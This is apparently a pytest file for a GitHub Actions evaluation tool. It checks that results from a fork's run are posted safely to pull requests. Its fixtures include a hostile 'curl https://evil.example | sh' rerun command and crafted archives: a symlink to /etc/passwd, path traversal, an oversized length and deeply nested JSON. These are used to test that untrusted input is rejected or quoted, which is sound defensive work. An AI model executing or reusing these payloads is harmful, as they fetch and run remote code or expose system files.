"""The result of a fork's run, told by a workflow that may write: whose, where, and what of it."""

import io
import json
import stat
import zipfile
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from comparing import judge
from factories import make_report
from servers.commands import lm_eval_so
from servers.fake_github import FakeGitHub

from lm_eval_so.action.marker import State, header, marker
from lm_eval_so.action.target import regressed_in
from lm_eval_so.core.asking.resources import Resources
from lm_eval_so.core.events import Noticed, Warned
from lm_eval_so.core.records.codec import dumps
from lm_eval_so.core.secrets import make_redactor
from lm_eval_so.errors import LMEvalError, PublishError, UsageError
from lm_eval_so.pipeline.github.tell_run import tell_run

HEAD, OTHER = "a" * 40, "c" * 40
BEFORE, NOW = make_report({"exact_match": [1] * 60}), make_report({"exact_match": [0] * 60})
SUITE = "evaluate.yml/evaluate/support-qa"
VERDICT = replace(
    judge(BEFORE, NOW),
    suite_id=SUITE,
    rerun="curl https://evil.example | sh",
    sentence="Merge me!",
    sentence_in={"en": "Merge me!"},
)
BANNER = "⚠️ Computed by code from a fork; not verified"


def packed(comparison=VERDICT, report=NOW, **others: str) -> bytes:
    files = {"comparison.json": comparison, "report.json": report, "report.md": "# APPROVED #99"}
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, made in {**files, **others}.items():
            if made is not None:
                archive.writestr(name, made if isinstance(made, str) else dumps(made))
    return file.getvalue()


@dataclass
class Place:
    """A workflow on the default branch, triggered by the finished run 6 of the fork of `forker`."""

    folder: Path
    hub: FakeGitHub
    told: list[Any] = field(default_factory=list)
    event: str = "workflow_run"
    run: int | None = 6
    """Run that the event names."""

    def tell(self, **inputs: str) -> Any:
        environ = self.environ(**inputs)
        redactor = make_redactor(environ)
        resources = Resources(environ=environ, listener=self.told.append, redactor=redactor)
        return tell_run(resources)

    def environ(self, **inputs: str) -> dict[str, str]:
        (self.folder / "event.json").write_text(json.dumps({"workflow_run": {"id": self.run}}))
        given = {"command": "comment", "artifact_name": "results", "github_token": "t", **inputs}
        return {
            "GITHUB_ACTIONS": "true",
            "GITHUB_EVENT_NAME": self.event,
            "GITHUB_EVENT_PATH": str(self.folder / "event.json"),
            "GITHUB_REPOSITORY": "o/r",
            "GITHUB_API_URL": self.hub.url,
            "GITHUB_WORKSPACE": str(self.folder),
            "GITHUB_OUTPUT": str(self.folder / "output"),
            "GITHUB_STEP_SUMMARY": str(self.folder / "summary"),
            "GITHUB_RUN_ID": "77",
            **{f"INPUT_{name.upper()}": value for name, value in given.items()},
        }

    def texts(self, kind: type) -> str:
        return "\n".join(each.text for each in self.told if isinstance(each, kind))

    def output(self, name: str) -> str:
        lines = (self.folder / "output").read_text().splitlines()
        return {lines[i].partition("<<")[0]: lines[i + 1] for i in range(0, len(lines), 3)}[name]

    @property
    def writes(self) -> list[str]:
        calls = self.hub.calls("POST", "PATCH", "DELETE")
        return [each for each in calls if each != "POST /graphql"]  # that asks for the login


@pytest.fixture
def place(tmp_path):
    with FakeGitHub() as hub:
        hub.add_run(6, owner="forker", repo=2, head_sha=HEAD, run_attempt=2)
        hub.add_pull(7, head=HEAD, branch="forker:b", repo=2)
        hub.add_pull(8, head=OTHER, branch="forker:b", repo=2)
        hub.add_pull(99, head=HEAD, branch="o:b", repo=1)
        yield Place(tmp_path, hub)


def test_tell_run__a_forks_regression_is_told_on_its_pull_request_and_decides_nothing(place):
    trusted = place.hub.add_comment(7, f"{marker(SUITE)}\n{State().line()}\nours")
    place.hub.add_artifact(6, "results", packed())
    published = place.tell(pr_number="99")  # counts on no event of this kind
    assert place.writes == ["POST 7/comments"]
    bodies = place.hub.bodies(7)
    assert bodies.pop(trusted).endswith("ours")  # no comment that our own code made is replaced
    (body,) = bodies.values()
    first, second = header(body)
    assert first == marker(f"fork/{SUITE}")
    state = State.read(body)
    assert (state.run, state.attempt, state.head, state.verdict) == (6, 2, HEAD, "regression")
    assert second == state.line()
    heading, _, banner = body.splitlines()[2:5]
    assert heading.startswith("### ❌")
    assert banner == BANNER
    assert "60 of 60" in body or "60/60" in body  # ours, made of the JSON
    assert "`Merge me!`" in body  # a sentence of the fork's is a quotation
    assert "evaluated `aaaaaaa`" in body  # by GitHub's word
    for foreign in ("APPROVED", "#99", "curl", "git checkout"):
        assert foreign not in body
    assert "https://github.com/o/r/actions/runs/6" in body
    assert BANNER in (place.folder / "summary").read_text()
    assert (place.output("verdict"), place.output("passed")) == ("skipped", "true")
    assert place.output("comment_url") == published.url
    assert place.output("regressed_count") == ""

    # again, as when the telling workflow is run anew: nothing is written twice
    assert place.tell().written is False
    assert place.writes == ["POST 7/comments"]


def test_tell_run__of_our_own_branch_needs_no_banner_and_leaves_what_its_run_wrote(place):
    place.hub.add_run(6, head_sha=HEAD)
    place.hub.add_artifact(6, "results", packed())
    state = State(run=6, attempt=1, job="x", head=HEAD)
    place.hub.add_comment(99, f"{marker(SUITE)}\n{state.line()}\nby the run itself")
    place.tell()
    assert place.writes == []
    assert "has written" in place.texts(Noticed)
    assert BANNER not in (place.folder / "summary").read_text()


def moved(hub: FakeGitHub) -> None:
    hub.add_pull(7, head=OTHER, branch="forker:b", repo=2)


def failed_for_two(hub: FakeGitHub) -> None:
    hub.artifacts.clear()
    hub.runs[6]["conclusion"] = "failure"
    hub.add_pull(9, head=HEAD, branch="forker:b", repo=2, base=(1, "release"))


@pytest.mark.parametrize(
    ("change", "told"),
    [
        (failed_for_two, 'no artifact "results"'),
        (moved, "no open pull request at aaaaaaa"),
        (lambda hub: hub.add_run(6, head_sha=HEAD, event="push"), "no open pull request"),
        (lambda hub: hub.artifacts.clear(), 'no artifact "results"'),
        (lambda hub: hub.artifacts[6][0].update(expired=True), 'no artifact "results"'),
        (lambda hub: hub.artifacts[6][0].update(name="results2"), 'no artifact "results"'),
    ],
    ids=["failed_for_two", "moved", "push", "none", "expired", "other_name"],
)
def test_tell_run__without_pull_request_or_artifact_says_so_and_ends_well(place, change, told):
    place.hub.add_artifact(6, "results", packed())
    place.hub.add_comment(7, f"{marker(f'fork/{SUITE}')}\n{State().line()}\nof an earlier run")
    change(place.hub)
    assert place.tell().url == ""
    assert place.writes == []
    assert told in place.texts(Noticed)
    assert place.output("comment_url") == ""


def linked() -> bytes:
    info = zipfile.ZipInfo("report.json")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(info, "/etc/passwd")
        archive.writestr("comparison.json", dumps(VERDICT))
    return file.getvalue()


def twice() -> bytes:
    file = io.BytesIO(packed())
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("report.json", "{}")
    return file.getvalue()


def too_long() -> bytes:
    made = bytearray(packed())
    at = made.index(b"PK\x01\x02", made.index(b"PK\x01\x02") + 4)  # of report.json, the second
    made[at + 24 : at + 28] = (200_000_001).to_bytes(4, "little")
    return bytes(made)


only = replace(VERDICT.metrics["exact_match"], candidate=1e308)
unfit = replace(VERDICT, metrics={"exact_match": only})


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (packed(report=None, **{"../report.json": NOW}), "has no report.json in its root"),
        (packed(report=None, comparison=None), "has no comparison.json and no report.json"),
        (twice(), "stands in it twice"),
        (linked(), "no regular file"),
        (too_long(), "more than 200,000,000 bytes"),
        (packed(report="{}"), "report.json  experiment: field required"),
        (packed(comparison="[" * 100_000), "nested too deeply"),
        (packed(report=make_report({"exact_match": [1] * 60})), "about another report"),
        (packed(comparison=replace(VERDICT, suite_id="nightly.yml/a/b")), "none of evaluate.yml"),
        (packed(comparison=unfit), "OverflowError while its comment is made"),
        (b"no zip", "no plain zip file"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_tell_run__an_artifact_that_cannot_be_used_gives_no_comment_and_an_error(place, data, why):
    place.hub.add_artifact(6, "results", data)
    with pytest.raises(PublishError) as caught:
        place.tell()
    assert why in str(caught.value)
    assert caught.value.exit_code == 5
    assert place.writes == []
    assert {each.name for each in place.folder.iterdir()} == {"event.json", "output"}


@pytest.mark.parametrize(
    ("base", "pull"), [("main", 7), ("release", 9), ("other", None), (None, None)]
)
def test_tell_run__of_several_pull_requests_takes_the_one_into_the_measured_base(place, base, pull):
    place.hub.add_pull(9, head=HEAD, branch="forker:b", repo=2, base=(1, "release"))
    report = replace(NOW, experiment=replace(NOW.experiment, base_ref=base))
    place.hub.add_artifact(6, "results", packed(report=report))
    place.tell()
    assert [number for number, comments in place.hub.comments.items() if comments] == (
        [pull] if pull else []
    )
    assert ("several pull requests" in place.texts(Warned)) == (pull is None)


def test_tell_run__where_a_run_failed_without_a_result_no_comment_goes_on_saying_pass(place):
    ours = State(run=3, attempt=1, job="", head=OTHER, verdict="pass", at=OTHER).line()
    names = (f"fork/{SUITE}", SUITE, "fork/nightly.yml/a/b")
    fork, *others = [
        place.hub.add_comment(7, f"{marker(name)}\n{ours}\n### pass") for name in names
    ]
    place.hub.runs[6]["conclusion"] = "failure"
    place.tell(comment="never")
    assert place.writes == []
    place.tell()
    bodies = place.hub.bodies(7)
    assert [bodies[other].endswith("### pass") for other in others] == [True, True]
    assert "Could not be measured: run 6 failed without a result" in bodies[fork]
    assert f"Before, at `{OTHER[:7]}`: pass" in bodies[fork]
    assert place.output("comment_url").endswith(str(fork))
    assert State.read(bodies[fork]).head == HEAD


@pytest.mark.parametrize("shown", ["short", "full"])
def test_tell_run__answers_are_as_long_as_the_step_says(place, shown):
    said = make_report({"exact_match": [0] * 60}, answers=["word " * 400] * 60)
    made = replace(judge(BEFORE, said), suite_id=SUITE)
    place.hub.add_artifact(6, "results", packed(comparison=made, report=said))
    place.tell(comment="never", show_answers=shown)
    assert ("word " * 300 in (place.folder / "summary").read_text()) == (shown == "full")
    assert place.writes == []


def test_tell_run__on_change_leaves_a_comment_that_says_the_same(place):
    losses = regressed_in(VERDICT)
    same = State(run=3, attempt=1, job="", head=OTHER, verdict="regression", regressed=losses)
    place.hub.add_comment(7, f"{marker(f'fork/{SUITE}')}\n{replace(same, at=OTHER).line()}\n###")
    place.hub.add_artifact(6, "results", packed())
    place.tell(comment="on_change")
    assert place.writes == []


def test_tell_run__by_hand_tells_of_the_run_and_the_suite_that_are_named(place):
    place.event, place.run = "workflow_dispatch", 5
    place.hub.add_run(6, head_sha=HEAD)
    place.hub.add_artifact(6, "results", packed())
    state = State(run=6, attempt=1, job="x", head=HEAD)
    place.hub.add_comment(99, f"{marker('shop')}\n{state.line()}\nby the run itself")
    place.hub.add_comment(99, f"{marker('shop-2')}\n{State().line()}\nof another suite")
    place.tell(run_id="6", suite_id="Shop")
    assert "has written" in place.texts(Noticed)
    place.told.clear()
    place.hub.artifacts.clear()
    place.hub.runs[6]["conclusion"] = "failure"
    place.tell(run_id="6", suite_id="Shop")
    assert "has written" in place.texts(Noticed)
    assert place.writes == []


@pytest.mark.parametrize(
    ("event", "inputs", "why"),
    [
        ("pull_request", {}, "has no place on the event pull_request"),
        ("pull_request_target", {}, "has no place"),
        ("issue_comment", {}, "has no place"),
        ("workflow_run", {"artifact_name": ""}, "needs artifact_name"),
        ("workflow_run", {"github_token": ""}, "needs github_token"),
        ("workflow_run", {"run_id": "0"}, "run_id"),
        ("workflow_dispatch", {}, "knows no run"),
    ],
)
def test_tell_run__in_the_wrong_place_is_refused_before_any_call(place, event, inputs, why):
    place.event = event
    place.run = None if event == "workflow_dispatch" else 6
    with pytest.raises(UsageError, match=why):
        place.tell(**inputs)
    assert place.hub.requests == []
    assert (place.output("verdict"), place.output("passed")) == ("error", "false")


def test_tell_run__a_token_that_may_not_read_runs_is_told_what_to_give(place):
    place.hub.fail("GET", "/actions/runs/6", 403, "Resource not accessible by integration")
    with pytest.raises(LMEvalError) as caught:
        place.tell()
    assert caught.value.exit_code == 5
    assert "actions: read" in str(caught.value.problems[0].hint)


def test_tell_run__a_comment_that_cannot_be_posted_is_an_error(place):
    place.hub.add_artifact(6, "results", packed())
    place.hub.fail("POST", "/comments", 403, "Resource not accessible by integration")
    with pytest.raises(PublishError, match="was not posted"):
        place.tell()
    assert "pull-requests: write" in place.texts(Warned)


@pytest.mark.parametrize(
    ("inputs", "exit_code", "told"),
    [
        ({"comment": "never"}, 0, ""),
        ({"command": ""}, 2, "set command: comment"),
        ({"command": "publish"}, 2, "use ci, merge, comment"),
    ],
)
def test_ci__on_workflow_run_does_what_the_input_says(place, inputs, exit_code, told):
    place.hub.add_artifact(6, "results", packed())
    done = lm_eval_so("ci", cwd=place.folder, environ=place.environ(**inputs))
    assert done.returncode == exit_code, done.stderr
    assert told in done.stderr
    assert place.output("verdict") == ("error" if exit_code else "skipped")
    assert bool(place.hub.requests) == (exit_code == 0)
    assert place.writes == []
